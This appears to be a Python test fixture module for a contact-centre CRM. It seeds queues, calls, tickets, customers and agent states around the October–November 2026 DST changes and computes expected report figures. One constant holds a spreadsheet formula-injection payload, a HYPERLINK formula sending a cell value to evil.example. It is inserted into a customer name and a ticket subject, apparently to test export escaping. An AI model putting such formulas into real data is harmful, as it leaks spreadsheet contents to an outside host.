"""Report test data: routed contacts, tickets, customers and agent states inserted with
explicit timestamps around the autumn DST changes (Europe/Warsaw on 25 Oct 2026,
America/New_York on 1 Nov 2026), and plain-Python computations over the same rows that
the tests compare the reports with.
"""

from __future__ import annotations

import datetime as dt
import random
from collections import Counter
from dataclasses import dataclass, field
from typing import Any
from zoneinfo import ZoneInfo

from sqlalchemy.orm import Session

from crm_core.models import Customer, Interaction, Tag, Ticket, User
from hub.models import AgentStateChange, QueueEntry, SlaClock
from hub.routing import do_add_queue_member, do_create_queue
from tests.factories import make_user

UTC = dt.UTC
START = dt.datetime(2026, 10, 20, 0, 0, tzinfo=UTC)
END = dt.datetime(2026, 11, 5, 0, 0, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@dataclass
class Seed:
    queue_ids: dict[str, int] = field(default_factory=dict)
    targets: dict[tuple[int, str], int] = field(default_factory=dict)
    team_id: int = 0
    agents: list[User] = field(default_factory=list)
    supervisor: User | None = None
    entries: list[dict[str, Any]] = field(default_factory=list)
    tickets: list[dict[str, Any]] = field(default_factory=list)
    customers: list[dict[str, Any]] = field(default_factory=list)
    states: list[tuple[dt.datetime, str]] = field(default_factory=list)  # agents[0]


def _rand_time(rng: random.Random) -> dt.datetime:
    span = int((END - START).total_seconds())
    return START + dt.timedelta(seconds=rng.randrange(span))


# Rows right at the edges of local days and of the DST change (UTC instants).
EDGES = [
    dt.datetime(2026, 10, 24, 21, 59, 59, tzinfo=UTC),  # 23:59:59 CEST on 24 Oct
    dt.datetime(2026, 10, 24, 22, 0, 0, tzinfo=UTC),  # 00:00 CEST on 25 Oct
    dt.datetime(2026, 10, 25, 0, 30, tzinfo=UTC),  # 02:30 CEST (first 02:xx)
    dt.datetime(2026, 10, 25, 1, 30, tzinfo=UTC),  # 02:30 CET (second 02:xx)
    dt.datetime(2026, 10, 25, 22, 59, 59, tzinfo=UTC),  # 23:59:59 CET on 25 Oct
    dt.datetime(2026, 10, 25, 23, 0, 0, tzinfo=UTC),  # 00:00 CET on 26 Oct
    dt.datetime(2026, 11, 1, 5, 30, tzinfo=UTC),  # 01:30 EDT in New York
    dt.datetime(2026, 11, 1, 6, 30, tzinfo=UTC),  # 01:30 EST in New York
]


def seed(session: Session, n: int = 260, rng_seed: int = 7) -> Seed:
    rng = random.Random(rng_seed)
    s = Seed()
    from crm_core.services.users import get_or_create_team

    team = get_or_create_team(session, "Zespół A")
    s.team_id = team.id
    sales = do_create_queue(
        session,
        name="Sprzedaż",
        channels=["voice", "email"],
        sla_targets={"voice": {"seconds": 20, "percent": 80}, "email": {"seconds": 600}},
        team_id=team.id,
    )
    service = do_create_queue(session, name="Serwis", channels=["voice", "webform"])
    s.queue_ids = {"sales": sales.id, "service": service.id}
    s.targets = {(sales.id, "voice"): 20, (sales.id, "email"): 600}
    s.agents = [
        make_user(session, name="Ala Agentka", teams=("Zespół A",)),
        make_user(session, name="Bartek Agent", teams=("Zespół A",)),
        make_user(session, name="Cyryl Агент"),
    ]
    s.supervisor = make_user(session, role="supervisor", name="Sylwia Supervisor")
    for agent in s.agents:
        do_add_queue_member(session, sales, agent)
    do_add_queue_member(session, service, s.agents[2])
    customer = Customer(
        kind="person",
        first_name="Eve",
        last_name=HOSTILE,
        display_name="Eve " + HOSTILE,
        search_name="eve",
        created_at=START,
    )
    session.add(customer)
    session.flush()

    times = [*EDGES, *(_rand_time(rng) for _ in range(n))]
    plans = []
    for i, at in enumerate(times):
        channel = rng.choice(["voice", "voice", "email", "webform"])
        queue_id = sales.id if channel in ("voice", "email") and rng.random() < 0.7 else service.id
        outcome = rng.choice(["answered", "answered", "answered", "abandoned", "waiting"])
        agent = rng.choice(s.agents) if outcome == "answered" else None
        wait = rng.randrange(0, 60)
        handle = rng.randrange(30, 900)
        finishes = rng.random() < 0.9
        plans.append((i, at, channel, queue_id, outcome, agent, wait, handle, finishes))
    interactions = [
        Interaction(
            channel=channel,
            direction="inbound",
            status={"answered": "closed", "abandoned": "abandoned", "waiting": "queued"}[outcome],
            external_id=f"rep-{i}",
            customer_id=customer.id if i % 3 == 0 else None,
            agent_id=agent.id if agent else None,
            queue_id=queue_id,
            from_address=f"+48601000{i % 1000:03d}",
            subject=HOSTILE if i == 0 else f"Sprawa {i}",
            created_at=at,
        )
        for i, at, channel, queue_id, outcome, agent, *_ in plans
    ]
    session.add_all(interactions)
    session.flush()
    for interaction, plan in zip(interactions, plans, strict=True):
        i, at, channel, queue_id, outcome, agent, wait, handle, finishes = plan
        answered = at + dt.timedelta(seconds=wait) if outcome == "answered" else None
        finished = answered + dt.timedelta(seconds=handle) if answered and finishes else None
        abandoned = at + dt.timedelta(seconds=wait) if outcome == "abandoned" else None
        session.add(
            QueueEntry(
                interaction_id=interaction.id,
                queue_id=queue_id,
                channel=channel,
                state={"answered": "done", "abandoned": "abandoned", "waiting": "waiting"}[outcome],
                enqueued_at=at,
                rank_at=at,
                agent_id=agent.id if agent else None,
                answered_at=answered,
                wait_seconds=wait if answered else None,
                finished_at=finished,
                abandoned_at=abandoned,
            )
        )
        target = s.targets.get((queue_id, channel))
        breached = None
        if target is not None:
            late = wait > target
            breached = at + dt.timedelta(seconds=target) if late and outcome != "waiting" else None
            session.add(
                SlaClock(
                    kind="answer",
                    interaction_id=interaction.id,
                    queue_id=queue_id,
                    target_seconds=target,
                    started_at=at,
                    breached_at=breached,
                )
            )
        s.entries.append(
            {
                "id": interaction.id,
                "at": at,
                "channel": channel,
                "queue_id": queue_id,
                "agent_id": agent.id if agent else None,
                "answered_at": answered,
                "wait": wait if answered else None,
                "finished_at": finished,
                "abandoned_at": abandoned,
                "breached": breached is not None,
            }
        )

    tickets = []
    for i in range(60):
        created = _rand_time(rng)
        responded = (
            created + dt.timedelta(minutes=rng.randrange(5, 600)) if rng.random() < 0.7 else None
        )
        ticket = Ticket(
            number=f"T-{i:04d}",
            subject=f"Zgłoszenie {i}",
            priority=rng.choice(["low", "normal", "normal", "high", "urgent"]),
            queue_id=sales.id if i % 2 else None,
            created_at=created,
            first_response_due_at=created + dt.timedelta(hours=4),
            first_responded_at=responded,
        )
        tickets.append((ticket, rng.random() < 0.25))
    session.add_all([t for t, _ in tickets])
    session.flush()
    for ticket, sla_breached in tickets:
        created = ticket.created_at
        session.add(
            SlaClock(
                kind="resolution",
                ticket_id=ticket.id,
                target_seconds=3600,
                started_at=created,
                breached_at=created + dt.timedelta(hours=1) if sla_breached else None,
            )
        )
        s.tickets.append(
            {
                "id": ticket.id,
                "at": created,
                "priority": ticket.priority,
                "queue_id": ticket.queue_id,
                "responded_at": ticket.first_responded_at,
                "due": ticket.first_response_due_at,
                "sla_breached": sla_breached,
            }
        )

    tags = [Tag(name="hurt"), Tag(name="detal")]
    session.add_all(tags)
    for i in range(40):
        created = dt.datetime(2026, 1, 1, tzinfo=UTC) + dt.timedelta(hours=rng.randrange(24 * 330))
        klass = rng.choice(["A", "B", None])
        chosen = [t for t in tags if rng.random() < 0.5]
        c = Customer(
            kind="person",
            first_name=f"Klient{i}",
            last_name="Testowy",
            display_name=f"Klient{i} Testowy",
            search_name=f"klient{i} testowy",
            customer_class=klass,
            created_at=created,
        )
        c.tags = chosen
        session.add(c)
        s.customers.append({"at": created, "class": klass, "tags": [t.name for t in chosen]})
    s.customers.append({"at": START, "class": None, "tags": []})

    # Agent 0's day across the DST night: logged in before the range, breaks, busy spells.
    a0 = s.agents[0]
    states = [(dt.datetime(2026, 10, 24, 20, 0, tzinfo=UTC), "available")]
    t = states[0][0]
    for _ in range(40):
        t += dt.timedelta(minutes=rng.randrange(3, 50))
        states.append((t, rng.choice(["available", "busy", "wrap_up", "break", "offered"])))
    states.append((t + dt.timedelta(minutes=30), "offline"))
    previous, since = "offline", states[0][0] - dt.timedelta(hours=5)
    for at, state in states:
        if state == previous:
            continue
        session.add(
            AgentStateChange(
                user_id=a0.id,
                from_state=previous,
                to_state=state,
                seconds_in_previous=int((at - since).total_seconds()),
                at=at,
            )
        )
        previous, since = state, at
    s.states = states
    session.flush()
    return s


def local_day(at: dt.datetime, tz: str) -> dt.date:
    return at.astimezone(ZoneInfo(tz)).date()


def expected_contacts(
    s: Seed, tz: str, first: dt.date, last: dt.date, **match: Any
) -> Counter[tuple[dt.date, str]]:
    """(local day, channel) -> contacts, by a plain loop over the inserted rows."""
    out: Counter[tuple[dt.date, str]] = Counter()
    for e in s.entries:
        day = local_day(e["at"], tz)
        if first <= day <= last and all(e[k] == v for k, v in match.items()):
            out[(day, e["channel"])] += 1
    return out


def state_seconds(
    states: list[tuple[dt.datetime, str]], start: dt.datetime, end: dt.datetime
) -> Counter[str]:
    """Seconds per state within [start, end) from a list of (time, new state)."""
    out: Counter[str] = Counter()
    cleaned: list[tuple[dt.datetime, str]] = []
    for at, state in states:
        if not cleaned or cleaned[-1][1] != state:
            cleaned.append((at, state))
    for (at, state), nxt in zip(cleaned, [*cleaned[1:], (end, "")], strict=True):
        lo, hi = max(at, start), min(nxt[0], end)
        if hi > lo:
            out[state] += int((hi - lo).total_seconds())
    return out
